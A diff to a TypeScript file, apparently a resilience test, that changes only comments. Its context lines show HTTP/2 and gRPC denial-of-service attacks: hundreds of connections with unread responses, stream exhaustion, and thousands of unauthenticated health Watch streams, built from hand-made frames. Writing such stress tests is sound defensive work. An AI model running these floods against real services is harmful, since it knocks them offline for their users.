@@ -1,7 +1,7 @@
 import http2 from 'node:http2'
 import net from 'node:net'
 
-/** Where an attack goes: `host` and `port` of both addresses. */
+/** The target of an attack: `host` and `port` of both addresses. */
 interface Targets {
   readonly rest: net.TcpNetConnectOpts
   readonly internal: net.TcpNetConnectOpts
@@ -11,7 +11,7 @@ const frameHeadBytes = 9
 const frameType = { data: 0, headers: 1, reset: 3, settings: 4 } as const
 const endHeaders = 4
 const endStream = 1
-/** How an HTTP/2 connection begins. */
+/** The first bytes of an HTTP/2 connection. */
 const preface = Buffer.concat([
   Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
   frame(frameType.settings, 0, 0, Buffer.alloc(0)),
@@ -22,7 +22,7 @@ const attacks: Readonly<Record<string, (targets: Targets) => void>> = {
   /** 700 connections, each with 150 requests for the largest document; no answer is read. */
   'unread pages': ({ rest }) => many(700, () => unread(rest, '/openapi.json', 150)),
   'unread metrics': ({ internal }) => many(700, () => unread(internal, '/metrics', 150)),
-  /** As many streams as a session takes, none of whose answers may be sent. */
+  /** As many streams as a session takes; none of their answers may be sent. */
   'unread streams': ({ internal }) => many(40, () => unreadStreams(internal)),
   /** 4,000 streams without a token. */
   watches: ({ internal }) => many(40, () => watches(internal, 100)),
@@ -74,7 +74,7 @@ function unreadStreams(target: net.TcpNetConnectOpts): http2.ClientHttp2Session 
   return session
 }
 
-/** What is answered is not looked at: all streams stay open that the server leaves open. */
+/** Ignores answers: all streams stay open that the server leaves open. */
 function watches(target: net.TcpNetConnectOpts, streams: number): net.Socket {
   const socket = connect(target)
   const head = headersOf('/grpc.health.v1.Health/Watch')
@@ -119,7 +119,7 @@ function floodOfCalls(target: net.TcpNetConnectOpts, path: string): http2.Client
   return session
 }
 
-/** Headers of a gRPC call that need no table: each is literal, or stands in HPACK's static one. */
+/** Headers of a gRPC call without table entries: each is literal, or in HPACK's static table. */
 function headersOf(path: string): Buffer {
   const literal = (index: number, value: string) =>
     Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)])
